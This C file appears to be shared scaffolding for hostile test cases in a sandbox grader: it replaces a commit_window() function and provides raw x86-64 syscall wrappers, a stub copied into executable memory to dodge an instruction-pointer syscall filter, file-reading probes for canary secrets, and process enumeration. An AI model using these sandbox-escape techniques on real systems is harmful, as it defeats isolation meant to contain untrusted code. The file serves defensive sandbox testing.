// What attacks share. An attack is handed in as commit_window.c: it is what
// commit_window() does instead of its task. `grade.py verify --hostile` puts this file's
// text in the place of its #include, and the places of its canaries for @SECRET@ (a file
// of the grader's), @OUTSIDE@ (a folder), @SOCKET@ (a socket's path), @CHECKOUT@, CANARY_PORT (on
// 127.0.0.1) and CANARY_PID.

#include "unit.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SOMETIMES __attribute__((unused))

static void attack(void *base, size_t first, size_t count);

SOMETIMES static BOOL answer = FALSE;

BOOL commit_window(void *base, size_t first, size_t count) {
    SOMETIMES static BOOL attacked;
    if (!attacked)
        attack(base, first, count);
    attacked = TRUE;
    fflush(stdout);
    return answer;
}

// A Linux system call by the program's own instruction. x86-64's numbers:
enum {
    SYS_open = 2,
    SYS_close = 3,
    SYS_shmget = 29,
    SYS_pause = 34,
    SYS_socket = 41,
    SYS_connect = 42,
    SYS_fork = 57,
    SYS_vfork = 58,
    SYS_execve = 59,
    SYS_kill = 62,
    SYS_semget = 64,
    SYS_msgget = 68,
    SYS_symlink = 88,
    SYS_ptrace = 101,
    SYS_setsid = 112,
    SYS_mount = 165,
    SYS_mq_open = 240,
    SYS_unshare = 272,
    SYS_process_vm_writev = 311,
};

typedef int64_t Word; // a register: Windows' long is half of one
typedef Word RawCall(Word number, Word a, Word b, Word c);

SOMETIMES static Word raw(Word number, Word a, Word b, Word c) {
    Word result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

// The same by an instruction among Linux's own libraries, where the filter by
// instruction pointer does not see it: what is then left are the other walls.
SOMETIMES static RawCall *raw_from_above(void) {
    static const unsigned char code[] = {
        0x57, 0x56,       // push rdi; push rsi (Windows' callee saves them)
        0x89, 0xc8,       // mov eax, ecx
        0x48, 0x89, 0xd7, // mov rdi, rdx
        0x4c, 0x89, 0xc6, // mov rsi, r8
        0x4c, 0x89, 0xca, // mov rdx, r9
        0x45, 0x31, 0xd2, // xor r10d, r10d
        0x0f, 0x05,       // syscall
        0x5e, 0x5f, 0xc3, // pop rsi; pop rdi; ret
    };
    unsigned char *above =
        VirtualAlloc(NULL, 65536, MEM_RESERVE | MEM_COMMIT | MEM_TOP_DOWN, PAGE_EXECUTE_READWRITE);
    memcpy(above, code, sizeof code);
    printf("code %s the libraries\n", (uintptr_t)above > 0x7d0000000000 ? "among" : "below");
    return (RawCall *)(void *)above;
}

// Whether a file can be opened; its first bytes are printed, for the canary to be found.
SOMETIMES static int opens(const char *path) {
    char text[512];
    DWORD got = 0;
    HANDLE file = CreateFileA(path, GENERIC_READ, 7, NULL, OPEN_EXISTING, 0, NULL);
    if (file == INVALID_HANDLE_VALUE)
        return 0;
    if (ReadFile(file, text, sizeof text - 1, &got, NULL)) {
        text[got] = 0;
        printf("read: %s\n", text);
    }
    CloseHandle(file);
    return 1;
}

SOMETIMES static int creates(const char *path) {
    HANDLE file = CreateFileA(path, GENERIC_WRITE, 7, NULL, CREATE_ALWAYS, 0, NULL);
    if (file == INVALID_HANDLE_VALUE)
        return 0;
    CloseHandle(file);
    return 1;
}

// Makes every page resident.
SOMETIMES static void touch(volatile char *memory, size_t size) {
    for (size_t at = 0; at < size; at += 4096)
        memory[at] = 1;
}

enum { PIDS_MOST = 4096 };

// Linux' numbers of the processes that can be seen.
SOMETIMES static int all_pids(int pids[PIDS_MOST]) {
    WIN32_FIND_DATAA found;
    HANDLE list = FindFirstFileA("\\\\?\\unix\\proc\\*", &found);
    int count = 0;
    do {
        int pid = atoi(found.cFileName);
        if (pid > 0 && count < PIDS_MOST)
            pids[count++] = pid;
    } while (FindNextFileA(list, &found));
    return count;
}
